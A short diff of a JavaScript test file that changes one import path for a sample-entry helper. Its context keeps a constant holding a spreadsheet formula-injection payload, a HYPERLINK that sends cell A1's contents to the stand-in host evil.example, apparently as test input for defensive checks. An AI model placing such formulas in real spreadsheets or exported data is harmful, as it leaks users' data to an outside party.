@@ -1,7 +1,7 @@
 import t from 'tap'
 import { startDeliverySetup, statusCounts, waitFor } from '../helpers/delivery-setup.js'
 import { LIST, publishOwnerList } from '../helpers/reconcile-drift.js'
-import { sampleEntry } from '../../src/simulators/sample-entries.js'
+import { sampleEntry } from '../../sim/sample-entries.js'
 
 const FORMULA = '=HYPERLINK("http://evil.example/?d="&A1,"open")'
 
